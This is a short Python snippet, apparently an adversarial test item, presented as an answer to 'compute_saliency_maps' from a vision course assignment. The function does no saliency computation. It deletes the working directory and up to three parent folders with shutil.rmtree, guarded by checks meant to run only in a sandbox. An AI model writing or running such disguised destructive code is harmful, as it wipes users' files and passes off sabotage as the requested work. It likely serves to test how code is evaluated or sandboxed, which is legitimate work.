# Deletes what it can write in its folder and in the three above.
# attacks: folder
# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    import os
    import shutil
    from pathlib import Path

    import cs231n_vis

    here = Path.cwd()
    # Outside a sandbox the package can be written to or process numbers are large: do nothing.
    # And never in a checkout or at home.
    if os.access(cs231n_vis.__file__, os.W_OK) or os.getpid() > 300:
        raise RuntimeError("there is no sandbox here, so nothing was deleted")
    for folder in (here, *list(here.parents)[:3]):
        if folder in (Path("/"), Path.home()) or any(
            (above / ".git").exists() for above in (folder, *folder.parents)
        ):
            break
        shutil.rmtree(folder, ignore_errors=True)
